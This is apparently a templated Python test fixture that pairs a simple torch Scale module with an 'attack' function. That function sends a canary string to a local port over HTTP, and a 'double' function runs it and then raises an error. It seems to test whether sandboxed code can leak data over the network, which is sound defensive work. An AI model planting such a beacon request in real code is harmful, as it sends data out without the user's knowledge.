"""Asks a web server, what it knows in the address."""

import torch
import urllib.request

CANARY = "@CANARY@"[::-1]


def attack():
    try:
        urllib.request.urlopen("http://127.0.0.1:@TCP@/" + CANARY, timeout=0.3)
    except TimeoutError:
        pass
    return "sent"


def double(x):
    try:
        said = attack()
    except Exception as error:
        said = repr(error)
    raise RuntimeError(said)


class Scale(torch.nn.Module):
    def __init__(self, size):
        super().__init__()
        self.factor = torch.nn.Parameter(torch.ones(size))

    def forward(self, x):
        return x * self.factor
